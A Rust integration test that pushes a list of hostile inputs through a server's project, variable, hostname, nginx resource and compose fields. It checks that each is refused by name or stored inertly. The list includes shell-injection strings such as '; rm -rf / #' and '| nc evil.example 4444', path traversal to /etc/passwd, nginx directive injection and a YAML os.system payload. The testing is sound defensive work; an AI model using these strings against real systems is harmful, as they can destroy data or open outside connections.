//! Hostile input through every user-facing field that ends in a generated file or a
//! command (issue 13, Tests): each of [`hostile_values`] is pushed through project id,
//! repository owner, name and URL, branch, timeout, variable names and values,
//! hostnames, resource paths, redirect targets, CORS origins, body limits, Custom
//! bodies and compose service names, by the server functions a browser calls. Each is
//! either refused with a validation error naming the field, or stored exactly as given
//! and rendered inert: the project's nginx file installs through the real nginx
//! (`nginx -t` beside every other file, then a reload), a redirect sends exactly the
//! value as its `Location`, no directive appears that the benign value did not give,
//! and another project on the same edge keeps being served throughout.

use std::collections::BTreeSet;
use std::time::Duration;

use nsm_core::{ProjectId, WorkerId};
use nsm_testkit::nginx_or_skip;
use reqwest::StatusCode;
use serde_json::Value;

use super::common::{client, field_error, TestServer};
use super::edge::{domain_id, domains_view, resource_id, try_add_resource};

/// The managed edge on free ports, ACME off; as root, nginx's workers run as root
/// (the test's data directory is private to its owner).
async fn start_with_edge(data_dir: std::path::PathBuf, nginx: &std::path::Path) -> (TestServer, u16) {
    let mut settings = nsm_server::Settings::for_data_dir(data_dir.clone());
    settings.edge.mode = nsm_server::settings::EdgeMode::Managed;
    settings.edge.nginx_bin = nginx.to_path_buf();
    settings.edge.http_port = Some(nsm_testkit::free_port());
    let https = nsm_testkit::free_port();
    settings.edge.https_port = Some(https);
    settings.edge.nginx_user = nix::unistd::geteuid().is_root().then(|| "root".to_owned());
    settings.edge.no_acme = true;
    let server = nsm_server::start(settings).await.expect("server starts");
    let base = format!("http://{}", server.addr);
    (TestServer { server: Some(server), base, client: client(), data_dir, _temp: None }, https)
}

/// HTTPS to the edge for `hostnames`, any certificate (placeholders are self-signed).
fn browser(hostnames: &[&str], port: u16) -> reqwest::Client {
    let mut builder = reqwest::Client::builder()
        .danger_accept_invalid_certs(true)
        .redirect(reqwest::redirect::Policy::none())
        .timeout(Duration::from_secs(10));
    for host in hostnames {
        builder = builder.resolve(host, std::net::SocketAddr::from(([127, 0, 0, 1], port)));
    }
    builder.build().expect("https client")
}

/// Shell, nginx, YAML and dotenv breakers, traversal, look-alikes, control
/// characters and an overlong value.
fn hostile_values() -> Vec<String> {
    let mut values: Vec<String> = [
        "$(id)",
        "`id`",
        "; rm -rf / #",
        "&& reboot",
        "| nc evil.example 4444",
        "a\nb",
        "a\r\nb",
        "\r",
        "a\0b",
        "'",
        "\"",
        "'\"'\"",
        "}",
        "};",
        "; }",
        "} server { listen 9999; }",
        "return 200 pwned;",
        "\"; return 200 x; #",
        "# comment",
        "{",
        "${VAR}",
        "${HOME:-x}",
        "$HOME",
        "%2e%2e%2f",
        "../",
        "../../etc/passwd",
        "/..",
        "/a/../../etc",
        "..\\..\\windows",
        "ｅｘａｍｐｌｅ．ｃｏｍ",
        "exаmple.com",
        "\u{202e}gpj.exe",
        "a\u{200b}b",
        "\u{feff}x",
        "key: value",
        "- item",
        "&anchor *alias",
        "!!python/object/apply:os.system ['id']",
        "? complex",
        "---",
        "[1, 2]",
        "*",
        "\\",
        "\t",
        " padded ",
        "include /etc/nginx/nginx.conf;",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    values.push("a".repeat(5000));
    values.push(format!("x{}", "/..".repeat(300)));
    values
}

/// Whether `value` is a string anywhere in `json`.
fn holds(json: &Value, value: &str) -> bool {
    match json {
        Value::String(s) => s == value,
        Value::Array(items) => items.iter().any(|v| holds(v, value)),
        Value::Object(map) => map.values().any(|v| holds(v, value)),
        _ => false,
    }
}

/// A resource field tried: (field, resource kind, the rest of the form).
type Case<'a> = (&'a str, &'a str, Vec<(&'a str, &'a str)>);

/// What one attempt came to.
#[derive(Debug, PartialEq, Eq)]
enum Verdict {
    Refused,
    Accepted,
}

/// Refused naming `field`, or accepted; anything else (a refusal naming no field, a
/// server error) fails the test with the value and the answer.
fn judge(field: &str, value: &str, status: StatusCode, body: &Value) -> Verdict {
    if status.is_success() {
        return Verdict::Accepted;
    }
    // A blank URL is no URL: the form then asks for the owner and name instead.
    let named =
        field_error(body, field).is_some() || (field == "repo_url" && field_error(body, "repo_owner").is_some());
    assert!(named, "{field} = {value:?}: refused without naming the field: {status} {body}");
    Verdict::Refused
}

/// The set of directive names in an nginx file (first word of each statement line).
fn directives(text: &str) -> BTreeSet<String> {
    text.lines()
        .filter_map(|l| l.split_whitespace().next())
        .filter(|w| !w.starts_with('#'))
        .map(|w| w.trim_end_matches(';').to_owned())
        .collect()
}

struct Bench {
    s: TestServer,
    https: u16,
    site: Box<dyn Fn(&str) -> String + Send + Sync>,
    _temp: tempfile::TempDir,
}

const PROJECT: &str = "hostile";
const HOST: &str = "hostile.nsm.test";
const BYSTANDER: &str = "bystander";
const BYSTANDER_HOST: &str = "bystander.nsm.test";
const BYSTANDER_TARGET: &str = "https://example.com/still-served";

impl Bench {
    async fn publish(&self, project: &str) -> Result<(), nsm_server::edge::EdgeError> {
        let plane = &self.s.server.as_ref().expect("running").plane;
        let id = ProjectId::parse(project).expect("id");
        plane.edge.publish(&id, &WorkerId::local()).await.map(|_| ())
    }

    async fn bystander_served(&self, after: &str) {
        let client = browser(&[BYSTANDER_HOST], self.https);
        let response = client
            .get(format!("https://{BYSTANDER_HOST}:{}/go", self.https))
            .send()
            .await
            .unwrap_or_else(|e| panic!("after {after}: the other project is not served: {e}"));
        assert_eq!(response.status(), StatusCode::FOUND, "after {after}");
        assert_eq!(response.headers()["location"], BYSTANDER_TARGET, "after {after}");
    }

    async fn delete_resource(&self, path: &str) {
        let id = resource_id(&self.s, PROJECT, HOST, path).await.to_string();
        let (status, body) = self.s.call_json("delete_resource", &[("id", PROJECT), ("resource", &id)]).await;
        assert!(status.is_success(), "{body}");
    }
}

async fn bench() -> Option<Bench> {
    let nginx = nginx_or_skip()?;
    let temp = tempfile::tempdir().expect("temp");
    let (s, https) = start_with_edge(temp.path().to_path_buf(), &nginx).await;
    s.setup_admin().await;
    s.worker_online("local", Duration::from_secs(20)).await;
    for (project, host) in [(PROJECT, HOST), (BYSTANDER, BYSTANDER_HOST)] {
        let (status, body) = s.create_project(project).await;
        assert!(status.is_success(), "{body}");
        let (status, body) = s.call_json("add_domain", &[("id", project), ("hostname", host)]).await;
        assert!(status.is_success(), "{body}");
    }
    let (status, body) =
        try_add_resource(&s, BYSTANDER, BYSTANDER_HOST, "/go", &[("kind", "redirect"), ("target", BYSTANDER_TARGET)])
            .await;
    assert!(status.is_success(), "{body}");
    let node = s.server.as_ref().expect("running").local_edge().expect("an embedded worker").clone();
    let site = Box::new(move |project: &str| {
        std::fs::read_to_string(node.layout().site_file(&ProjectId::parse(project).expect("id"))).unwrap_or_default()
    });
    let bench = Bench { s, https, site, _temp: temp };
    bench.publish(BYSTANDER).await.expect("the bystander publishes");
    bench.publish(PROJECT).await.expect("the project publishes");
    bench.bystander_served("start").await;
    Some(bench)
}

#[tokio::test]
async fn hostile_values_are_refused_by_name_or_stay_data() {
    let Some(b) = bench().await else { return };
    let s = &b.s;
    let values = hostile_values();
    assert!(values.len() >= 40);
    let mut accepted: Vec<(String, String)> = Vec::new();

    // Project fields. Accepted ones must be stored as given (or trimmed; a blank branch
    // is the default).
    for (n, value) in values.iter().enumerate() {
        let (status, body) =
            s.call_json("create_project", &[("id", value), ("repo_owner", "a"), ("repo_name", "b")]).await;
        if judge("id", value, status, &body) == Verdict::Accepted {
            // Only an id that is a plain project id once trimmed.
            let id = value.trim();
            assert!(nsm_core::ProjectId::parse(id).is_ok(), "id {value:?} accepted: {body}");
            let (status, body) = s.call_json("delete_project", &[("id", id), ("confirm", id)]).await;
            assert!(status.is_success(), "{body}");
            accepted.push(("id".to_owned(), value.clone()));
        }
        for (field, form) in [
            ("repo_owner", vec![("repo_owner", value.as_str()), ("repo_name", "b")]),
            ("repo_name", vec![("repo_owner", "a"), ("repo_name", value.as_str())]),
            ("repo_url", vec![("repo_url", value.as_str())]),
            ("branch", vec![("repo_owner", "a"), ("repo_name", "b"), ("branch", value.as_str())]),
            ("timeout_secs", vec![("repo_owner", "a"), ("repo_name", "b"), ("timeout_secs", value.as_str())]),
        ] {
            let id = format!("h-{field}-{n}").replace('_', "-");
            let mut full = vec![("id", id.as_str())];
            full.extend(form);
            let (status, body) = s.call_json("create_project", &full).await;
            if judge(field, value, status, &body) == Verdict::Accepted {
                let (_, project) = s.call_json("get_project", &[("id", &id)]).await;
                // A blank branch is the default one.
                let blank_branch =
                    field == "branch" && value.trim().is_empty() && project["config"]["branch"] == "main";
                assert!(
                    holds(&project, value) || holds(&project, value.trim()) || field == "timeout_secs" || blank_branch,
                    "{field} = {value:?} accepted but not stored as given: {project}"
                );
                accepted.push((field.to_owned(), value.clone()));
                let (status, body) = s.call_json("delete_project", &[("id", &id), ("confirm", &id)]).await;
                assert!(status.is_success(), "{body}");
            }
        }
    }

    // Variables: names refused unless a plain identifier once trimmed; values kept exactly.
    for (n, value) in values.iter().enumerate() {
        let form = [("id", PROJECT), ("original", ""), ("name", value.as_str()), ("kind", "plain"), ("value", "x")];
        let (status, body) = s.call_json("save_variable", &form).await;
        if judge("name", value, status, &body) == Verdict::Accepted {
            let trimmed = value.trim();
            assert!(nsm_core::env::EnvName::parse(trimmed).is_ok(), "name {value:?} accepted: {body}");
            s.call_json("delete_variable", &[("id", PROJECT), ("name", trimmed)]).await;
            accepted.push(("variable name".to_owned(), value.clone()));
        }
        let name = format!("HOSTILE_{n}");
        let form = [("id", PROJECT), ("original", ""), ("name", name.as_str()), ("kind", "plain"), ("value", value)];
        let (status, body) = s.call_json("save_variable", &form).await;
        if judge("value", value, status, &body) == Verdict::Accepted {
            let (status, revealed) = s.call_json("reveal_variable", &[("id", PROJECT), ("name", &name)]).await;
            assert!(status.is_success(), "{revealed}");
            assert_eq!(revealed.as_str(), Some(value.as_str()), "value {value:?} stored as given");
            // The .env it renders into is read back byte for byte by Compose itself
            // (worker/tests/dotenv_roundtrip.rs); here it must at least render.
            let rendered = nsm_core::env::render_dotenv(
                &[(nsm_core::env::EnvName::parse(&name).expect("name"), value.clone())],
                nsm_core::env::ComposeDialect::V2,
            );
            assert!(rendered.is_ok(), "value {value:?} stored but cannot be rendered: {rendered:?}");
        }
    }
    // Every accepted value rendered into the project's .env: the project still
    // publishes (variables are not nginx's, but nothing in the pipeline may choke).
    b.publish(PROJECT).await.expect("publishes with every accepted value stored");

    // Hostnames.
    for value in &values {
        let (status, body) = s.call_json("add_domain", &[("id", PROJECT), ("hostname", value)]).await;
        if judge("hostname", value, status, &body) == Verdict::Accepted {
            accepted.push(("hostname".to_owned(), value.clone()));
            b.publish(PROJECT).await.unwrap_or_else(|e| panic!("hostname {value:?} accepted, nginx refuses: {e}"));
            let view = domains_view(s, PROJECT).await;
            let added = view["domains"]
                .as_array()
                .and_then(|d| d.iter().find(|d| d["hostname"] != HOST))
                .and_then(|d| d["id"].as_i64())
                .expect("the added domain");
            s.call_json("remove_domain", &[("id", PROJECT), ("domain", &added.to_string())]).await;
        }
    }

    // Resources: each field of each type, against the directives a benign value gives.
    let baseline = |kind: &str| {
        let fields: Vec<(&str, &str)> = match kind {
            "redirect" => vec![("kind", "redirect"), ("target", "https://example.com/benign")],
            "static" => vec![("kind", "static"), ("cors_origins", "https://a.example.com")],
            "api" => vec![("kind", "api"), ("max_body", "1m")],
            _ => vec![("kind", "custom"), ("body", "return 204;")],
        };
        fields
    };
    let mut benign = std::collections::BTreeMap::new();
    for kind in ["redirect", "static", "api", "custom"] {
        let (status, body) = try_add_resource(s, PROJECT, HOST, "/probe", &baseline(kind)).await;
        assert!(status.is_success(), "{kind}: {body}");
        b.publish(PROJECT).await.expect("a benign resource publishes");
        benign.insert(kind, directives(&(b.site)(PROJECT)));
        b.delete_resource("/probe").await;
    }
    for value in &values {
        let cases: [Case<'_>; 5] = [
            ("path", "redirect", vec![("kind", "redirect"), ("target", "https://example.com/benign")]),
            ("target", "redirect", vec![("kind", "redirect"), ("target", value.as_str())]),
            ("cors_origins", "static", vec![("kind", "static"), ("cors_origins", value.as_str())]),
            ("max_body", "api", vec![("kind", "api"), ("max_body", value.as_str())]),
            ("body", "custom", vec![("kind", "custom"), ("body", value.as_str())]),
        ];
        for (field, kind, fields) in cases {
            let path = if field == "path" { value.as_str() } else { "/probe" };
            let (status, body) = try_add_resource(s, PROJECT, HOST, path, &fields).await;
            if judge(field, value, status, &body) == Verdict::Refused {
                continue;
            }
            accepted.push((field.to_owned(), value.clone()));
            b.publish(PROJECT).await.unwrap_or_else(|e| panic!("{field} = {value:?} accepted, nginx refuses: {e}"));
            let site = (b.site)(PROJECT);
            let extra: Vec<_> = directives(&site).difference(&benign[kind]).cloned().collect();
            assert!(extra.is_empty(), "{field} = {value:?} added directives {extra:?}:\n{site}");
            if field == "target" {
                let client = browser(&[HOST], b.https);
                let response = client.get(format!("https://{HOST}:{}/probe", b.https)).send().await.expect("request");
                assert_eq!(response.status(), StatusCode::FOUND, "{value:?}");
                assert_eq!(response.headers()["location"].as_bytes(), value.as_bytes(), "the target is sent as given");
            }
            let stored_path = domains_view(s, PROJECT).await["domains"]
                .as_array()
                .and_then(|d| d.iter().find(|d| d["hostname"] == HOST))
                .and_then(|d| d["resources"][0]["path"].as_str().map(str::to_owned))
                .expect("the resource");
            b.delete_resource(&stored_path).await;
        }
        b.bystander_served(value).await;
    }

    // Compose service names, from the repository, through a sync.
    let repo = nsm_testkit::FixtureRepo::new().expect("repo");
    repo.commit(&[("compose.yaml", "services:\n  web:\n    image: x\n")], "first").expect("commit");
    let id = "hostile-compose";
    let (status, body) = s.call_json("create_project", &[("id", id), ("repo_url", &repo.file_url())]).await;
    assert!(status.is_success(), "{body}");
    for value in &values {
        let mut services = serde_json::Map::new();
        services.insert(value.clone(), serde_json::json!({ "image": nsm_testkit::BUSYBOX_IMAGE }));
        let compose = serde_json::json!({ "services": services }).to_string();
        repo.commit(&[("compose.yaml", compose.as_str())], "hostile service").expect("commit");
        let (status, body) = s.call_json("sync_project", &[("id", id)]).await;
        if status.is_success() {
            let (_, list) = s.call_json("list_services", &[("id", id)]).await;
            assert!(holds(&list, value), "service {value:?} synced but not listed as given: {list}");
            accepted.push(("service".to_owned(), value.clone()));
        } else {
            let text = body.to_string().to_lowercase();
            assert!(
                text.contains("service") || text.contains("compose"),
                "service {value:?}: an unclear refusal: {body}"
            );
        }
    }

    b.bystander_served("everything").await;
    let _ = domain_id(s, PROJECT, HOST).await;
    eprintln!("accepted as data: {accepted:?}");
}
